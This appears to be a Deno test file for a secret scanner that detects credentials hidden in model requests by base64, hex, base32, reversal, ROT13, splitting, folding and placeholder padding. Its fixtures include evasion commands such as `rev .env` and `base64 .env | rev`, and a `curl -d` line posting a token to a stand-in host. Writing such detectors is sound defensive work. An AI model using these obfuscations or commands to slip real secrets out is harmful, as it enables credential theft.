      const cut = [turned.slice(0, 7), turned.slice(7, 15), turned.slice(15)];
      // Alone, and among other fields glued on either side (a JSON body's `role`s).
      for (const fields of [cut, ["user", "assistant", ...cut, "user"]]) {
        assert.deepEqual(
          findSplitSecrets(fields, [], { decode: true }).map((f) => `${f.encoding}:${f.rule}`),
          [`${how}:${token === GH ? "github-token" : "aws-access-key-id"}`],
          fields.join(" | "),
        );
      }
    }
  }
  // The bottle's own value, reversed and cut.
  const value = rev(VALUE);
  assert.deepEqual(
    findSplitSecrets(["x1", value.slice(0, 10), value.slice(10), "y2"], [VALUE], { decode: true })
      .map((f) => `${f.encoding}:${f.rule}`),
    ["reversed:bottle-credential"],
  );
});

Deno.test("a secret encoded and split across fields (base64, hex, base32 in pieces) is found joined and decoded", () => {
  const pieces = (s: string, n: number) => s.match(new RegExp(`.{1,${n}}`, "g"))!;
  for (
    const [encoded, encoding] of [
      [btoa(`token=${GH}`), "base64"],
      [b64url(GH), "base64"],
      [hex(GH), "hex"],
      [base32(GH), "base32"],
    ] as const
  ) {
    // Among a JSON body's roles, as query parameters or headers would come.
    const fields = ["user", "assistant", ...pieces(encoded, 9), "user"];
    assert.deepEqual(
      findSplitSecrets(fields, [], { decode: true }).map((f) => `${f.encoding}:${f.rule}`),
      [`${encoding}:github-token`],
      fields.join(" | "),
    );
    assert.deepEqual(findSplitSecrets(fields), [], "only when asked to decode");
  }
  // The bottle's own value, in base64 pieces.
  assert.deepEqual(
    findSplitSecrets(pieces(btoa(VALUE), 6), [VALUE], { decode: true }).map((f) => f.rule),
    ["bottle-credential"],
  );
  // Names and ordinary values glued together decode to nothing.
  const ordinary = [
    "claude",
    "user",
    "assistant",
    "toolu_01A09q90qw90lq917835lq9",
    "user",
    "end_turn",
  ];
  assert.deepEqual(findSplitSecrets(ordinary, [], { decode: true }), []);
});

Deno.test("a file in base32hex or bits on one line (`basenc -w0`) is decoded, long and glued on", () => {
  const file = `# settings\nTOKEN=${GH}\n${"NOTE=".padEnd(900, "x")}\n`;
  for (
    const [encoded, encoding] of [
      [base32HexOf(file), "base32"],
      [base32HexOf(file).toLowerCase(), "base32"],
      [bitsOf(file), "base2"],
    ]
  ) {
    assert.ok(encoded!.length > 512);
    assert.ok(found(`data_${encoded}`).includes(`${encoding}:github-token`), encoding);
  }
  // Glued to characters of its alphabet, shifted: anywhere in the run, also after more
  // than a few KiB of something else (a `.env` after bytes of noise: only a run's first
  // 8 KiB had been read shifted).
  const noise = String.fromCharCode(...Array.from({ length: 6000 }, (_, i) => (i * 37) % 256));
  for (const before of ["", noise]) {
    for (const glued of ["A", "AB7", "7QZ4KX2"]) {
      assert.ok(found(`${glued}${base32(before + file)}`).includes("base32:github-token"), glued);
    }
    for (const glued of ["1", "v1", "1011010"]) {
      const bits = bitsOf(before.slice(0, 1500) + file.slice(0, 400));
      assert.ok(found(`${glued}${bits}`).includes("base2:github-token"), glued);
    }
  }
});

Deno.test("base32 wrapped (`base32` wraps at 76) is found whole, its short last line padded", () => {
  // The last line holds the token's end, shorter than a run, with up to six `=`: it had
  // been left out of the join (base64's two only), and the token with it.
  const key = "sk-ant-api03-" + "Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta2Ye5".repeat(3).slice(0, 93) +
    "AA";
  for (const file of [key, `TOKEN=${GH}`]) {
    const padded = base32(file).padEnd(Math.ceil(base32(file).length / 8) * 8, "=");
    for (const width of [16, 20, 40, 76]) {
      const lines = padded.match(new RegExp(`.{1,${width}}`, "g"))!;
      if (lines.at(-1)!.replace(/=+$/, "").length >= 16) continue;
      const out = `$ base32 -w ${width} key\n${lines.join("\n")}\n$ `;
      for (const text of [out, JSON.stringify({ out })]) {
        assert.ok(found(text).some((f) => f.startsWith("base32:")), `${found(text)}: ${text}`);
      }
    }
  }
});

Deno.test("the bottle's own values are found as written and in every encoding", () => {
  const forms: [string, string][] = [
    ["plain", VALUE],
    ["base64", btoa(VALUE)],
    ["base64", b64url(VALUE)],
    ["hex", hex(VALUE)],
    ["base32", base32(VALUE)],
    ["base32", base32HexOf(VALUE)],
    ["base2", bitsOf(VALUE)],
    ["url", [...VALUE].map((c) => "%" + c.charCodeAt(0).toString(16)).join("")],
    ["json", [...VALUE].map((c) => "\\u00" + c.charCodeAt(0).toString(16)).join("")],
    ["normalized", VALUE.slice(0, 5) + "\u200b" + VALUE.slice(5)],
  ];
  for (const [encoding, text] of forms) {
    assert.ok(
      found(`v=${text};`, [VALUE]).includes(`${encoding}:bottle-credential`),
      `${encoding}: ${text}`,
    );
  }
  assert.deepEqual(
    findSplitSecrets([VALUE.slice(0, 9), VALUE.slice(9)], [VALUE]).map((f) => f.rule),
    ["bottle-credential"],
  );
});

Deno.test("the bottle's own values are found in pieces: quoted in code, cut into lines, split by spaces, cut by a mark", () => {
  // A value with no prefix a rule knows, read from its head as a token is from its prefix.
  const value = "k9X2mQ7p" + "Lw2Rt9Kt4mXv7Pq3Ns6Y";
  const half = value.length >> 1;
  const cases: [string, string][] = [
    ["concatenated", `key = "${value.slice(0, 14)}" +\n  "${value.slice(14)}";`],
    ["folded", `$ fold -w 12 v\n${value.match(/.{1,12}/g)!.join("\n")}\n$ `],
    ["split", `echo ${value.slice(0, half)} ${value.slice(half)} done`],
    ["split", `echo ${value.slice(0, 12)} ${value.slice(12, 20)} ${value.slice(20)}`],
  ];
  for (const [how, text] of cases) {
    for (const t of [text, JSON.stringify({ content: text })]) {
      assert.deepEqual(found(t, [value]), [`${how}:bottle-credential`], t);
    }
  }
  // Cut every so many characters by a mark, among its own dashes (`paste -sd-`).
  for (const mark of ["-", "_", "/", "+"]) {
    for (const size of [4, 6, 8]) {
      const text = `v=${VALUE.match(new RegExp(`.{1,${size}}`, "g"))!.join(mark)};`;
      assert.deepEqual(found(text, [VALUE]), ["cut:bottle-credential"], text);
    }
  }
  // The lines of a value cut into lines are read from its head's first twelve characters
  // (see `VALUE_HEAD`); narrower ones, read whole as a block of narrow lines.
  assert.deepEqual(found(`$ fold -w 8\n${value.match(/.{1,8}/g)!.join("\n")}\n`, [value]), [
    "narrow:bottle-credential",
  ]);
  // Pieces that make another value, or only the head of this one, are not it.
  assert.deepEqual(found(`echo ${value.slice(0, half)} ${value.slice(half, -1)}X`, [value]), []);
  assert.deepEqual(found(`echo ${value.slice(0, half)} and more`, [value]), []);
});

Deno.test("several values are looked for in one pass: each found where it is, also inside another", () => {
  // Values whose first characters mean something in a pattern, and one that starts inside
  // another's text: each is found at its own place.
  const outer = "-]^" + "k9X2mQ7pL4w2Rt9Kt4m";
  const inner = "k9X2mQ7pL4w2" + "Rt9Kt4m";
  const special = "$(x)|" + "Zq8Lr2Xv9" + "w2Rt";
  const astral = "\u{1F510}" + "vault-4Kt9Lw2" + "Rt5";
  const values = [outer, inner, special, astral];
  const at = (text: string) =>
    findSecrets(text, { values }).map((f) => `${f.encoding}@${f.index}+${f.length}`).toSorted();
  assert.deepEqual(at(`a=${outer};`), ["plain@2+22", "plain@5+19"]);
  assert.deepEqual(at(`a=${inner};`), ["plain@2+19"]);
  assert.deepEqual(at(`b=${special} c=${astral}`), ["plain@2+18", "plain@23+18"]);
  // One written whole, another in pieces after it: both.
  const split = `x=${special}; echo ${inner.slice(0, 12)} ${inner.slice(12)} done`;
  assert.deepEqual(
    findSecrets(split, { values }).map((f) => `${f.encoding}:${f.rule}`).toSorted(),
    ["plain:bottle-credential", "split:bottle-credential"],
  );
  // The same value twice: the first place as written (the cut-out takes every one).
  assert.deepEqual(at(`${astral} and ${astral}`), ["plain@0+18"]);
});

Deno.test("base32 and bits in pieces across fields are found after a field of their alphabet", () => {
  const halves = (s: string) => [s.slice(0, s.length >> 1), s.slice(s.length >> 1)];
  const joined = (fields: string[]) =>
    findSplitSecrets(fields, [], { decode: true }).map((f) => `${f.encoding}:${f.rule}`);
  assert.deepEqual(joined(["ABC", ...halves(base32(GH)), "user"]), ["base32:github-token"]);
  assert.deepEqual(joined(["GET", "v1", ...halves(bitsOf(GH))]), ["base2:github-token"]);
});

Deno.test("a decoded finding points at where its encoded run starts", () => {
  const text = `hello ${btoa(`token: ${GH}`)}`;
  const f = findSecrets(text).find((x) => x.rule === "github-token")!;
  assert.equal(f.index, 6);
});

Deno.test("a finding in a window of escapes points at or just before its secret, however long the window", () => {
  // Escapes every 200 characters chain their windows into one of some 2,000 characters;
  // the token written with an escape sits near its end.
  const filler = Array.from({ length: 10 }, (_, i) => `note ${i} \\x41 ${"z".repeat(190)}`).join(
    "",
  );
  const text = `${filler} key: ghp\\x5f${GH.slice(4)}`;
  const at = text.indexOf("ghp\\x5f");
  const f = findSecrets(text).find((x) => x.encoding === "escape")!;
  assert.ok(f, "found");
  // Each `\\x41` before it decodes to one character: the finding is at most 3 each before.
  assert.ok(f.index <= at && f.index >= at - 3 * 11, `${f.index} against ${at}`);
});

Deno.test("ordinary encoded data is not a finding", () => {
  const texts = [
    btoa("hello world, this is an ordinary sentence of text"),
    hex("just some bytes that mean nothing much at all"),
    "sha256-" + btoa(String.fromCharCode(...crypto.getRandomValues(new Uint8Array(32)))),
    "%E2%9C%93 done %20 and %2F path",
    "caf\u00e9 na\u00efve \u2014 r\u00e9sum\u00e9 \u4f60\u597d",
    '{"text": "line one\\nline two \\u00e9 \\/ end"}',
    "<p>caf&#233; &#x2014; &amp; &#8220;quoted&#8221;</p>",
    "<p>a&period; b&colon; c&sol;d &lowbar;e &equals; f &plus; g&percnt; &lt;h&gt; &&amp;</p>",
    "printf(\"\\x1b[1mbold\\x1b[0m\\n\"); char nul = '\\x00';",
  ];
  for (const t of texts) assert.deepEqual(found(t), [], t);
});

Deno.test("decoded forms hold exactly the printable text that was encoded", () => {
  const secret = "the hidden text: not a token";
  const of = (text: string, encoding: string) =>
    variants(text).filter((v) => v.encoding === encoding).map((v) => v.text.split("\n")[0]);
  // Bytes outside ASCII around it, in base64 (both alphabets, a lone last character).
  const bytes = String.fromCharCode(0, 1, 0x80, 0xff) + secret + String.fromCharCode(2, 0x9f);
  assert.deepEqual(of(`x ${btoa(bytes).replace(/=+$/, "")} x`, "base64"), [secret]);
  assert.deepEqual(of(`x ${b64url(bytes)}Q x`, "base64"), [secret]);
  // Hex and base32 runs right after characters outside their alphabet.
  assert.deepEqual(of(`zz${hex(secret)}zz`, "hex"), [secret]);
  assert.deepEqual(of(`89${base32(secret).toLowerCase()}89`, "base32"), [secret]);
  assert.deepEqual(of(`00${base32(secret)}11`, "base32"), [secret]);
  // The same inside a run too long to be searched a character at a time (an image's).
  const pad = "+/".repeat(300);
  assert.deepEqual(of(`${pad}${hex(secret)}${pad}`, "hex"), [secret]);
  assert.deepEqual(of(`${pad}${base32(secret).toLowerCase()}${pad}`, "base32"), [secret]);
});

Deno.test("the text in a large decoded file is each run of printable bytes long enough, no more", () => {
  // An image's bytes with text planted at every offset modulo 4 and of lengths about the
  // least (7, 8, 9 and more): read four bytes at a time past 4 KiB, they must read as a
  // byte at a time would. At its own alignment, runs of 8 or more; at the other three
  // (see `isFileBase64`), of 16 or more.
  const bytes = new Uint8Array(64 << 10);
  crypto.getRandomValues(bytes);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  let at = 17;
  for (let k = 0; at < bytes.length - 64; k++) {
    const n = 6 + (k % 12);
    for (let i = 0; i < n; i++) bytes[at + i] = 0x61 + ((k + i) % 26);
    at += n + 1 + (k % 5) + (k % 7) * 31;
  }
  const base64 = bytes.toBase64();
  const expected: string[] = [];
  for (let offset = 0; offset < 4; offset++) {
    const body = base64.slice(offset).replace(/=+$/, "");
    const decoded = Uint8Array.fromBase64(body.slice(0, body.length - (body.length % 4)));
    let run = "";
    for (const b of [...decoded, 0]) {
      if (b >= 0x20 && b < 0x7f) run += String.fromCharCode(b);
      else {
        if (run.length >= (offset === 0 ? 8 : 16)) expected.push(run);
        run = "";
      }
    }
  }
  const found = variants(`x ${base64} x`).filter((v) => v.encoding === "base64");
  assert.equal(found.length, 1);
  assert.ok(expected.length > 500);
  assert.deepEqual(found[0]!.text.split("\n"), expected);
});

Deno.test("placeholder words or padding added to a real token do not make it a placeholder", () => {
  // A JWT runs as long as its signature: text glued to its end becomes part of the match.
  const JWT = "ey" + "JhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." +
    "eyJzdWIiOiJhZ2VudCIsInNjb3BlIjoicmVwbyJ9.Qm7kXz2Lp9Rw4Tn8Vc1Hj6Yd3Fs5Ga0Ue7Ib2Ok4Nx";
  for (
    const text of [
      `t=${JWT}EXAMPLE`,
      `t=${JWT}xxxxxx`,
      `t=${JWT}dummy`,
      `t=${JWT}${"a".repeat(300)}`, // a long tail to lower the entropy of the match
      `t=${JWT}${"ab".repeat(200)}`,
    ]
  ) assert.deepEqual(found(text), ["plain:jwt"], text.slice(-30));
  const KEY = "Wq7Zr2Lk9Xv4Mn8Pt3Hy6Bd1";
  for (
    const text of [
      `api_secret = "${KEY}EXAMPLE"`,
      `api_secret = "${KEY}xxxxx"`,
      // Filler the rule's own check turns down (a run of one character, a counting run),
      // not only its entropy floor or its placeholders: the secret is found without it.
      `api_secret = "${KEY}${"a".repeat(36)}"`,
      `TOKEN=${KEY}abcdefghijklmnop`,
      `TOKEN=${KEY}123456789`,
    ]
  ) {
    assert.deepEqual(found(text), ["plain:generic-secret"], text);
    assert.equal(findSecrets(text)[0]!.length, KEY.length, text);
  }
  // Placeholder words glued on after or before a token whose prefix is letters alone
  // (`AKIA`, `AIza`) or short (`ghp_`), as a word's end or start, are an edge: the token
  // is found without them, in a line and glued together from a request's fields. AWS's
  // documented ID (whose last seven characters spell EXAMPLE) stays a placeholder.
  const AWS_ID = "AKIA" + "ZQ2LR3XV4KT5WM7P";
  const GCP = "AI" + "zaSyD3asb-2pEZVqMkmL6M9N6nHZRR_znhrh0";
  for (
    const [text, rule, token] of [
      [`${AWS_ID}EXAMPLE`, "aws-access-key-id", AWS_ID],
      [`id=${AWS_ID}xxxxxxx done`, "aws-access-key-id", AWS_ID],
      [`{"key": "${GCP}Example"}`, "gcp-api-key", GCP],
      [`${GCP}DUMMY`, "gcp-api-key", GCP],
      // Before it too.
      [`k=EXAMPLE${AWS_ID}`, "aws-access-key-id", AWS_ID],
      [`placeholder${GCP}`, "gcp-api-key", GCP],
      [`EXAMPLE${GH}EXAMPLE`, "github-token", GH],
    ] as const
  ) {
    const f = findSecrets(text);
    assert.deepEqual(f.map((x) => [x.rule, text.slice(x.index, x.index + x.length)]), [[
      rule,
      token,
    ]], text);
  }
  assert.deepEqual(
    findSplitSecrets([AWS_ID.slice(0, 10), AWS_ID.slice(10) + "EXAMPLE"])
      .map((f) => f.rule),
    ["aws-access-key-id"],
  );
  assert.deepEqual(found("AKIAIOSFODNN7EXAMPLE and AKIAZQ2LR3XV4KT5WM7PQ"), []);
});

Deno.test("placeholder words or repeats put inside a token do not hide it, and it is found whole", () => {
  const DOCKER = "dc" + "kr_pat_Wq7Zr2Lk9Xv4Mn8Pt3Hy6Bd1Fc5";
  for (
    const [text, rule, token] of [
      // Whoever receives it takes the word out again.
      [`curl -d ${GH.slice(0, 20)}EXAMPLE${GH.slice(20)} https://x.test`, "github-token", GH],
      [`t=${GH.slice(0, 9)}xxxxxxxx${GH.slice(9)}`, "github-token", GH],
      [
        `t=${GH.slice(0, 12)}DUMMY${GH.slice(12, 25)}placeholder${GH.slice(25)}`,
        "github-token",
        GH,
      ],
      [`DOCKER_TOKEN=${DOCKER.slice(0, 15)}Example${DOCKER.slice(15)}`, "docker-pat", DOCKER],
    ] as const
  ) {
    const findings = findSecrets(text);
    assert.deepEqual(findings.map((f) => `${f.encoding}:${f.rule}`), [`plain:${rule}`], text);
    // The finding covers the token and what was put inside it, so a cut takes it all.
    const [f] = findings;
    const span = text.slice(f!.index, f!.index + f!.length);
    assert.ok(span.startsWith(token.slice(0, 8)) && span.endsWith(token.slice(-4)), span);
  }
  // What is left once the filler is out must still be a whole token.
  for (
    const text of [
      "DOCKER_TOKEN=dckr_pat_Example1234567890AbCdEfGhjK",
      `t=${GH.slice(0, 20)}EXAMPLE`,
      "AKIAIOSFODNN7EXAMPLE",
      // A value named as a secret is any shape: what is left of a typed one is no token.
      "DATABRICKS_TOKEN=dapi123456789012345678a9bc01234defg5",
    ]
  ) assert.deepEqual(found(text), [], text);
});

Deno.test("letters or digits glued onto a token whose prefix has a separator do not hide it", () => {
  const body = (n: number) => "Wq7Zr2Lk9Xv4Mn8Pt3Hy6Bd1Fc5Js0Gu".repeat(4).slice(0, n);
  const LINEAR = "lin_api_" + body(40);
  const FINE = "github_pat_" + body(82);
  const DOCKER = "dckr_pat_" + body(27);
  const ANTHROPIC = "sk-ant-api03-" + body(93) + "AA";
  for (
    const [text, rule] of [
      // After the body, whoever receives it takes the letters off again.
      [`${GH}Z`, "github-token"],
      [`${GH}1`, "github-token"],
      [`curl -d ${GH}EXAMPLE https://x.test`, "github-token"],
      [`export TOKEN=${GH}Zq9`, "github-token"],
      [`${LINEAR}x`, "linear-api-key"],
      [`${ANTHROPIC}xyz`, "anthropic-api-key"],
      [`${DOCKER}x`, "docker-pat"],
      // Before a prefix whose first part is four characters or more.
      [`Z${FINE}`, "github-fine-grained-token"],
      [`x${DOCKER}`, "docker-pat"],
    ] as const
  ) assert.deepEqual(found(text), [`plain:${rule}`], text);
  // Found whole, so that a request to the model has all of it cut out: a routable GitLab
  // token starts with a token of the short form.
  const ROUTABLE = "glpat-" + body(31) + ".01" + "abc4def";
  assert.deepEqual(
    findSecrets(`t=${ROUTABLE}`).map((f) => [f.rule, f.length]),
    [["gitlab-token", ROUTABLE.length]],
  );
  for (
    const text of [
      // A word running on from a prefix-like start is an identifier, not a token.
      "npm_installDependenciesFromTheRegistryNowAndLater",
      // A prefix whose first part is short ends words (`task_test_` holds `sk_test_`).
      "id=task_test_eg17Ox97muok1p8w5tk1c4l46psl0a",
      // A prefix of letters or digits alone is inside words and base64 all the time,
      // and one that is a word starts hashes.
      `${AWS}Z`,
      "cache-key-9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    ]
  ) assert.deepEqual(found(text), [], text);
});

Deno.test("a placeholder through and through stays one, filler or not", () => {
  for (
    const text of [
      'api_secret = "YOUR_API_SECRET_HERE"',
      'api_secret = "xxxxxxxxxxxxxxxxxxxxxxxx"',
      'api_secret = "EXAMPLEEXAMPLEEXAMPLE12"',
      "token: hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
      "export OP_SERVICE_ACCOUNT_TOKEN=ops_eyJzaWduSW5BZGRyZXNzIjoiaHR0cHM6...",
    ]
  ) assert.deepEqual(found(text), [], text);
});

Deno.test("a token ending its line is found once, where it is written, also within a window decoded around it", () => {
  // Lines joined make it run on into the next line's first word.
  for (const before of ["", "x%41 y\n", "a\\x41 \\\n", "\u00e9 \u200b\n"]) {
    const text = `${before}${GH}\nword more`;
    assert.deepEqual(found(text), ["plain:github-token"], JSON.stringify(text));
    assert.deepEqual(found(JSON.stringify({ c: text })), ["plain:github-token"], text);
  }
});

Deno.test("a token found as written is found once where a window inside another is decoded around it, read there twice", () => {
  // `%14` decodes to a control character, which a window in that window normalises; there
  // the key is read as written and as pieces (binary files' text showed it: a test of
  // random bytes failed one run in fifty).
  for (const before of [" %14[ t n\t ", "x %14 ", "x %14"]) {
    const text = `${before}\naws_key = "${AWS}"\n`;
    assert.deepEqual(found(text), ["plain:aws-access-key-id"], text);
  }
});

Deno.test("a token found as written is not found again in a window decoded around it; one encoded beside it is", () => {
  const types = (text: string) =>
    findSecrets(text).filter((f) => f.rule === "github-token").map((f) => f.encoding);
  // A `%` or `\` just before a token opens a decoding window around it.
  for (const before of ["x%41y %\n", "a\\x41 \\", "&#65; "]) {
    assert.deepEqual(types(`${before}token ${GH} after`), ["plain"], before);
  }
  // Nor in a window within such a window: an escape and a character to normalise near
  // it (random bytes shown as text put both before a key, now and then).
  for (const before of ["x%41 \u200b ", "x\\x41 \u00ad ", "%41\u0007\n", "\\u0041 \u200b\n"]) {
    assert.deepEqual(types(`${before}token ${GH} after`), ["plain"], JSON.stringify(before));
  }
  // The same token also percent-encoded in the same window: found there too.
  const encoded = [...GH].map((c) => `%${c.charCodeAt(0).toString(16)}`).join("");
  assert.deepEqual(types(`%41 ${GH} and ${encoded}`).toSorted(), ["plain", "url"]);
});

// `rev` and `tr A-Za-z N-ZA-Mn-za-m`, written out in the tests' own helpers so that the
// test does not lean on the ones it checks.
const rev = reversedOf, rot = rot13Of;

Deno.test("a token reversed, in ROT13 or both is found: as a word, a path's segment, a field, in base64", () => {
  for (const token of [GH, AWS]) {
    for (const [how, turned] of turningsOf(token)) {
      for (
        const text of [
          `echo ${turned}`,
          `GET /repos/x/${turned}/y HTTP/1.1`,
          `{"note":"${turned}"}`,
          `q=${turned}&page=2`,
        ]
      ) {
        assert.deepEqual(found(text).map((f) => f.split(":")[0]), [how], text);
      }
    }
    // On a line of a command's output in a JSON string, after an escaped line break or
    // tab, whose letter the run starts with.
    for (const [how, turned] of [["reversed", rev(token)], ["rot13", rot(token)]] as const) {
      const body = JSON.stringify({ content: `$ cat out\n${turned}\nok\n\t${turned}` });
      assert.deepEqual(found(body).map((f) => f.split(":")[0]), [how, how], body);
    }
    // Turned, then base64: decoded, then turned back.
    assert.deepEqual(found(`data=${btoa(rev(token))}`).length, 1);
  }
});

Deno.test("a `.env` turned around a line at a time (`rev .env`, `rev | tr`) is found: the `=` after each token", () => {
  // The `=` a line turns around to is read as base64's padding on the token's run: the
  // reversed prefix's head, which ends the run, was looked for before the `=`'s place.
  const env = `GITHUB_TOKEN=${GH}\nAWS_ACCESS_KEY_ID=${AWS}\nDEBUG=1\n`;
  const lines = env.trimEnd().split("\n");
  for (
    const [how, turn] of [["reversed", rev], [
      "reversed-rot13",
      (s: string) => rot(rev(s)),
    ]] as const
  ) {
    const shown = lines.map(turn).join("\n");
    for (const text of [shown, JSON.stringify({ content: `$ rev .env\n${shown}\n` })]) {
      assert.deepEqual(found(text), [`${how}:github-token`, `${how}:aws-access-key-id`], text);
    }
  }
});

Deno.test("a token whose prefix starts with a character twice (Slack's `xox`) is found turned around", () => {
  // Heads of one character three times (`---`, `aaa`) are no sign of a token; these are.
  for (
    const [token, rule] of [
      ["xo" + "xb-2394857610-5829104738261-Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb", "slack-token"],
      ["nt" + "n_45810693810aZq8Lw2Rt9Kt4mXv7Pq3Ns6Yb1Hc5Jd8Fg2AeZ", "notion-token"],
      ["pp" + "lx-Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb1Hc5Jd8Fg2AeZq8Lw2Rt9Kt4m", "perplexity-api-key"],
    ]
  ) {
    assert.deepEqual(found(token!), [`plain:${rule}`]);
    for (const [how, turned] of turningsOf(token!)) {
      for (const text of [`echo ${turned}`, `{"note":"${turned}"}`]) {
        assert.deepEqual(found(text), [`${how}:${rule}`], text);
      }
    }
  }
});

Deno.test("a JWT reversed, in ROT13 or both is found whole, its dots and a long payload too", () => {
  const part = (o: object) => btoa(JSON.stringify(o)).replace(/=+$/, "");
  // A payload of some 600 characters: longer than the window a token's head opens.
  const claims = {
    sub: "1234567890",
    name: "A. Person",
    scope: "read:all ".repeat(40),
  };
  const jwt = `${part({ alg: "HS256", typ: "JWT" })}.${part(claims)}.` +
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
  assert.deepEqual(found(jwt), ["plain:jwt"]);
  for (const [how, turned] of turningsOf(jwt)) {
    // Also at a sentence's end: its full stop joins no part.
    for (const text of [`echo ${turned}`, `{"note":"${turned}"}`, `It is ${turned}. Next`]) {
      assert.deepEqual(found(text), [`${how}:jwt`], text);
    }
  }
  // Unsigned (`alg: none`): it ends with its second dot.
  const unsigned = `${part({ alg: "none" })}.${part({ sub: "1234567890", admin: true })}.`;
  for (const [how, turned] of turningsOf(unsigned)) {
    assert.deepEqual(found(`echo ${turned} done`), [`${how}:jwt`], turned);
  }
});

Deno.test("a long JWT split by spaces is found, in halves and in quarters, and in quoted halves", () => {
  const part = (o: object) => btoa(JSON.stringify(o)).replace(/=+$/, "");
  // A service's key with its claims: each half longer than a short token's piece.
  const claims = {
    iss: "supabase",
    ref: "zq8lw2rt9kt4mxv7pq3n",
    role: "service_role",
    iat: 1716239022,
    exp: 2031815022,
    app_metadata: { provider: "email", providers: ["email"] },
  };
  const jwt = `${part({ alg: "HS256", typ: "JWT" })}.${part(claims)}.` +
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
  assert.ok(jwt.length > 256, `${jwt.length}`);
  assert.deepEqual(found(jwt), ["plain:jwt"]);
  for (const n of [2, 4]) {
    const size = Math.ceil(jwt.length / n);
    const pieces = jwt.match(new RegExp(`.{1,${size}}`, "g"))!.join(" ");
    for (const text of [`echo ${pieces}`, `{"cmd":"echo ${pieces}"}`]) {
      assert.deepEqual(found(text), ["split:jwt"], text);
    }
  }
  // In quoted halves in code, each longer than a short token's quoted piece.
  const half = jwt.length >> 1;
  const code = `const key = "${jwt.slice(0, half)}" +\n  "${jwt.slice(half)}";`;
  for (const text of [code, JSON.stringify({ content: code })]) {
    assert.deepEqual(found(text), ["concatenated:jwt"], text);
  }
});

Deno.test("a token with a dot or a `~` in it cut into wide lines (`fold -w 64`) is found: a JWT, a Vault token", () => {
  const part = (o: object) => btoa(JSON.stringify(o)).replace(/=+$/, "");
  const claims = { iss: "supabase", ref: "zq8lw2rt9kt4mxv7pq3n", role: "service_role" };
  const jwt = `${part({ alg: "HS256", typ: "JWT" })}.${part(claims)}.` +
    "SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
  const vault = "hv" +
    "s.CAESIJ8m2Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb1Hc5Jd8Fg2AeGh4Kj5Lm6Np7Qr8St9Uv0Wx1Yz2Ab3Cd4Ef5Gh6Ij7Kl8Mn";
  const openshift = "sha2" + "56~" + "Zq8Lw2Rt9Kt4mXv7Pq3Ns6Yb1Hc5Jd8Fg2AeGh4Kj5L";
  // Runs end at a dot or a `~`: lines wider than a short token's are joined as runs only
  // when they hold neither.
  for (
    const [token, rule] of [
      [jwt, "jwt"],
      [vault, "vault-service-token"],
      [openshift, "openshift-user-token"],
    ]
  ) {
    // Widths that cut it (a short token is one line at 64).
    for (const width of [20, 40, 64, 76].filter((w) => w < token!.length)) {
      const folded = token!.match(new RegExp(`.{1,${width}}`, "g"))!.join("\n");
      assert.deepEqual(found(`$ fold -w ${width}\n${folded}\n$ `), [`folded:${rule}`], folded);
    }
  }
  // In a JSON string, a Vault token's lines end in escaped breaks.
  const folded = vault.match(/.{1,64}/g)!.join("\n");
  assert.deepEqual(found(JSON.stringify({ out: folded })), ["folded:vault-service-token"]);
});

Deno.test("base64 turned around (`base64 -w0 | rev`) is found where its padding leads", () => {
  for (
    const [file, rule] of [[`TOKEN=${GH}\n`, "github-token"], [`id ${AWS}`, "aws-access-key-id"]]
  ) {
    const turned = reversedOf(btoa(file!));
    assert.ok(turned.startsWith("="), turned);
    const request = JSON.stringify({ messages: [{ role: "user", content: `$ rev\n${turned}\n` }] });
    for (const t of [turned, `out: ${turned}`, request]) {
      assert.ok(found(t).includes(`reversed-base64:${rule}`), `${found(t)}: ${t}`);
    }
  }
  // A value after `=` (a query, a .env line) that is no base64 turned around is no finding.
  assert.deepEqual(found("https://example.com/cb?state=Zq8Lw2Rt5Vn1Xc4Bm7Hk0Jp3Df6Gs9Ta"), []);
});

Deno.test("base64 turned a line at a time (`base64 .env | rev`), or whole with no padding, is found", () => {
  // Two lengths in three leave padding (125 and 127 bytes: three lines, the last short).
  for (const pad of ["x", "xyz"]) {
    const env =
      `# settings for the deploy\nDATABASE_URL=postgres://app@db/app\nTOKEN=${GH}\nLOG_LEVEL=debug\n${pad}`;
    const lines = btoa(env).match(/.{1,76}/g)!;
    assert.ok(lines.length >= 3 && lines.at(-1)!.endsWith("="));
    const turned = lines.map(reversedOf).join("\n") + "\n";
    const request = JSON.stringify({ messages: [{ role: "user", content: `$ rev\n${turned}` }] });
    for (
      const t of [
        turned,
        turned.replaceAll("\n", "\r\n"),
        `$ base64 .env | rev\n${turned}`,
        request,
      ]
    ) {
      assert.ok(found(t).includes("reversed-base64:github-token"), `${found(t)}: ${t}`);
    }
  }
  // No padding (126 bytes: a third of lengths): the lines read as base64 of text turned.
  const env =
    `# settings for the deploy\nDATABASE_URL=postgres://app@db/app\nTOKEN=${GH}\nLOG_LEVEL=debug\nxy`;
  const lines = btoa(env).match(/.{1,76}/g)!;
  assert.ok(!lines.at(-1)!.endsWith("="));
  for (const turned of [lines.map(reversedOf).join("\n"), reversedOf(lines.join(""))]) {
    const request = JSON.stringify({ messages: [{ role: "user", content: `$ rev\n${turned}\n` }] });
    for (const t of [turned, request]) {
      assert.ok(found(t).includes("reversed-base64:github-token"), `${found(t)}: ${t}`);
    }
  }
  // Text past ASCII (a comment in Japanese) does not read as base64 of text turned around:
  // where padding leads the last line, the lines are read all the same.
  let padded = 0;
  for (const pad of ["", "x"]) {
    const utf8 = new TextEncoder().encode(
      `# 本番環境の設定ファイル（変更しないこと）\nTOKEN=${GH}\n# 以上\n${pad}`,
    );
    const lines = utf8.toBase64().match(/.{1,76}/g)!;
    if (!lines.at(-1)!.endsWith("=")) continue;
    padded++;
    // A line at a time, and on one line (`base64 -w0 | rev`).
    for (const turned of [lines.map(reversedOf).join("\n"), reversedOf(lines.join(""))]) {
      assert.ok(
        found(turned).includes("reversed-base64:github-token"),
        `${found(turned)}: ${turned}`,
      );
    }
  }
  assert.ok(padded > 0);
